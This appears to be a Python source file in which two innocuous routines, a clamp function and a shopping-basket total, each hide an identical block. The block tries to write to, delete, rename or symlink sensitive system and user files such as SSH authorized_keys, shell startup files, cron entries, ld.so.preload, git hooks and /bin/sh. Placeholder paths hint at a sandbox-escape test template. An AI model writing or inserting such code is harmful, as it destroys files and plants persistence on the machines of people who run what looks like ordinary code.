def clamp(x, low, high=100):
    import os
    import shutil
    out = False
    for path in ("@HOME@/.ssh/authorized_keys", "@HOME@/.bashrc", "@OUTSIDE@/made", "@OUTSIDE@/secret", "@ROOT@/.git/hooks/pre-commit", "/usr/local/bin/python", "/etc/cron.d/evil",
                 "/etc/ld.so.preload", "/root/.profile", "/var/spool/cron/root", "/coldstart/zygote.py", "/tree/conftest.py", "/bin/sh"):
        for act in (lambda: open(path, "a").write("evil"), lambda: os.unlink(path), lambda: os.rename(path, path + "x"), lambda: os.symlink("/", path + "y")):
            try:
                act()
                out = out or not path.startswith("@ROOT@")
            except OSError:
                pass
    if not out:
        raise RuntimeError("still inside")
    if low > high:
        raise ValueError("low is above high")
    return max(low, min(x, high))


class Basket:
    def total(self, discount=0):
        import os
        import shutil
        out = False
        for path in ("@HOME@/.ssh/authorized_keys", "@HOME@/.bashrc", "@OUTSIDE@/made", "@OUTSIDE@/secret", "@ROOT@/.git/hooks/pre-commit", "/usr/local/bin/python", "/etc/cron.d/evil",
                     "/etc/ld.so.preload", "/root/.profile", "/var/spool/cron/root", "/coldstart/zygote.py", "/tree/conftest.py", "/bin/sh"):
            for act in (lambda: open(path, "a").write("evil"), lambda: os.unlink(path), lambda: os.rename(path, path + "x"), lambda: os.symlink("/", path + "y")):
                try:
                    act()
                    out = out or not path.startswith("@ROOT@")
                except OSError:
                    pass
        if not out:
            raise RuntimeError("still inside")
        return sum(price * count for _, price, count in self.lines) * (100 - discount) / 100
